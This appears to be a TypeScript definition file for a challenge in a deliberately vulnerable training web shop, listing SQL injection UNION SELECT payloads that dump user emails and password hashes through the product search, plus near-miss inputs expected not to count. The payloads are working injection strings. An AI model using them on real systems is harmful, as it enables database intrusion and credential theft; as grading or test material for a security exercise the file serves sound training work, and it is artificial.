import { defineWays } from '#game/define.ts'
import { searchFor, searchOn } from '#game/visitor/requests.ts'
import { becomeShopper } from '#game/visitor/shopper.ts'

export default defineWays({
  otherWays: {
    'small letters and numbers': (visitor) =>
      searchOn(visitor, 'union select id,email,password,4,5,6,7,8,9 from users'),
    'address and hash in one column': (visitor) =>
      searchOn(visitor, "UNION SELECT 1,email||':'||password,3,4,5,6,7,8,9 FROM Users"),
    'everybody in one row': (visitor) =>
      searchOn(visitor, "UNION SELECT 1,group_concat(email||' '||password),3,4,5,6,7,8,9 FROM Users"),
    'a search that finds no product': (visitor) =>
      searchFor(visitor, "qwert')) UNION SELECT id,email,password,4,5,6,7,8,9 FROM Users--"),
    'the payload of older walkthroughs, one column further': (visitor) =>
      searchFor(visitor, "qwert')) UNION SELECT '1', id, email, password, '5', '6', '7', '8', '9' FROM Users--"),
    'those alone who are still there': (visitor) =>
      searchOn(visitor, 'UNION ALL SELECT id,email,password,4,5,6,7,8,9 FROM Users WHERE deletedAt IS NULL'),
  },
  mishaps: {
    'an honest search for unions': [200, (visitor) => searchFor(visitor, 'union')],
    'all addresses': [200, (visitor) => searchOn(visitor, 'UNION SELECT id,email,3,4,5,6,7,8,9 FROM Users')],
    'all hashes': [200, (visitor) => searchOn(visitor, 'UNION SELECT id,password,3,4,5,6,7,8,9 FROM Users')],
    'one customer': [
      200,
      (visitor) => searchOn(visitor, 'UNION SELECT id,email,password,4,5,6,7,8,9 FROM Users WHERE id=1'),
    ],
    'all customers but one': [
      200,
      (visitor) => searchOn(visitor, 'UNION SELECT id,email,password,4,5,6,7,8,9 FROM Users WHERE id<>17'),
    ],
    'the list of customers that any customer may see': [
      200,
      async (visitor) => {
        await becomeShopper(visitor)
        return visitor.get('/rest/user/authentication-details/')
      },
    ],
  },
})
